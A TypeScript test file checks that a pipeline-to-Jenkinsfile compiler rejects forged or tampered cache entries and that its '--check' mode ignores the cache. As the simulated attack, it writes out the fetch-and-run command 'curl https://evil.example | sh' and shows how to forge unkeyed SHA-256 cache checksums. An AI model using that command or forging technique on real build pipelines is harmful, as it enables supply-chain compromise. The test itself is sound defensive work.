/**
 * The cache cannot vouch for a file (#10.3): entries in node_modules/.cache are signed with a key
 * kept outside the project, so an entry forged the way an attacker with write access to the
 * cache would (edit the text, recompute the unkeyed checksum) is not used, and `--check` never
 * consults the cache at all. Real files, the real CLI (built with a build id, so the result cache
 * is on), a private key directory.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildCliPackage, runPackagedCli, type CliPackage } from '../load/cli-package.ts';
import { createProject, type TempProject } from '../load/project.ts';

let cli: CliPackage;
let keyDirectory: string;
const projects: TempProject[] = [];
beforeAll(async () => {
  cli = await buildCliPackage('trust-test-build');
  keyDirectory = mkdtempSync(path.join(tmpdir(), 'pw-key-'));
}, 60_000);
afterAll(async () => {
  cli?.remove();
  rmSync(keyDirectory, { recursive: true, force: true });
  await Promise.all(projects.splice(0).map((project) => project.remove()));
});

const PIPELINE = `import { definePipeline, sh } from 'pipewright';
export default definePipeline({
  agent: { type: 'label', label: 'linux' },
  stages: [{ name: 'Build', steps: [sh('npm ci')] }],
});
`;

const FORGED_STEP = "sh 'curl https://evil.example | sh'";

function filesBelow(directory: string): string[] {
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name));
}

/**
 * The forged Jenkinsfile: the genuine one with its step replaced, under a header whose body hash
 * matches (anyone can compute it), so that it looks generated and up to date.
 */
function forgedJenkinsfile(genuine: string): string {
  const headerEnd = genuine.indexOf('\n', genuine.indexOf('\n') + 1) + 1; // the header is two lines
  const body = genuine.slice(headerEnd);
  const header = genuine.slice(0, headerEnd);
  const forgedBody = body.replace("sh 'npm ci'", FORGED_STEP);
  return header.replace(/pipewright-body-sha256: [0-9a-f]{64}/, `pipewright-body-sha256: ${createHash('sha256').update(forgedBody).digest('hex')}`) + forgedBody;
}

/**
 * Rewrites every cached result as a forger would: its Jenkinsfile is `forged` (entries record
 * the text's SHA-256 and read the text back from the output file), and the shard's first line is
 * recomputed as the SHA-256 of the new body. Returns the number of entries.
 */
function forgeResultCache(cacheDirectory: string, forged: string): number {
  let count = 0;
  for (const shard of filesBelow(path.join(cacheDirectory, 'results')).filter((file) => file.endsWith('.json'))) {
    const text = readFileSync(shard, 'utf8');
    const body = JSON.parse(text.slice(text.indexOf('\n') + 1)) as { entries: Record<string, { data: string }> };
    for (const entry of Object.values(body.entries)) {
      const data = JSON.parse(entry.data) as { jenkinsfileSha256?: string };
      if (data.jenkinsfileSha256 === undefined) continue;
      data.jenkinsfileSha256 = createHash('sha256').update(forged).digest('hex');
      entry.data = JSON.stringify(data);
      count += 1;
    }
    const newBody = JSON.stringify(body);
    writeFileSync(shard, `${createHash('sha256').update(newBody).digest('hex')}\n${newBody}`);
  }
  return count;
}

describe('cache trust', () => {
  test('a forged result-cache entry is neither written by compile nor believed by compile --check', async () => {
    const p = await project({ 'node_modules/.keep': '', 'pipelines/api.pipeline.ts': PIPELINE });
    const env = { PIPEWRIGHT_CACHE_KEY_DIR: keyDirectory };
    const first = await runPackagedCli(cli, ['compile'], p.root, env);
    expect(first.code).toBe(0);
    const output = p.file('generated/api/Jenkinsfile');
    const genuine = readFileSync(output, 'utf8');
    expect(genuine).toContain("sh 'npm ci'");
    // The forged entry vouches for a forged file in place of the output: compile must not keep it.
    const forged = forgedJenkinsfile(genuine);
    expect(forged).toContain(FORGED_STEP);
    expect(forgeResultCache(p.file('node_modules/.cache/pipewright'), forged)).toBeGreaterThan(0);
    writeFileSync(output, forged);
    const second = await runPackagedCli(cli, ['compile'], p.root, env);
    expect(second.code).toBe(0);
    expect(readFileSync(output, 'utf8')).toBe(genuine);

    // The attacker also commits the forged text as the generated file: --check must compare it
    // with what the source compiles to, not with the cache's word.
    expect(forgeResultCache(p.file('node_modules/.cache/pipewright'), forged)).toBeGreaterThan(0);
    writeFileSync(output, forged);
    const check = await runPackagedCli(cli, ['compile', '--check'], p.root, env);
    expect(check.code).toBe(1);
    expect(check.stdout).not.toContain('up to date');
    expect(check.stdout).toContain('generated/api/Jenkinsfile');

    // The key is the user's: outside the project, readable by the user only.
    expect(statSync(path.join(keyDirectory, 'cache-key')).mode & 0o777).toBe(0o600);
  }, 90_000);

  test('a tampered cached bundle is not evaluated: the warm compile rebuilds it', async () => {
    const p = await project({ 'node_modules/.keep': '', 'pipelines/api.pipeline.ts': PIPELINE });
    const env = { PIPEWRIGHT_CACHE_KEY_DIR: keyDirectory };
    expect((await runPackagedCli(cli, ['compile'], p.root, env)).code).toBe(0);
    const output = p.file('generated/api/Jenkinsfile');
    const genuine = readFileSync(output, 'utf8');
    const bundles = filesBelow(p.file('node_modules/.cache/pipewright')).filter((file) => file.endsWith('.mjs'));
    expect(bundles.length).toBeGreaterThan(0);
    for (const bundle of bundles) writeFileSync(bundle, readFileSync(bundle, 'utf8').replace('npm ci', 'curl https://evil.example | sh'));
    rmSync(output);
    expect((await runPackagedCli(cli, ['compile'], p.root, env)).code).toBe(0);
    expect(readFileSync(output, 'utf8')).toBe(genuine);
  }, 90_000);
});

async function project(files: Record<string, string>): Promise<TempProject> {
  const created = await createProject(files);
  projects.push(created);
  return created;
}
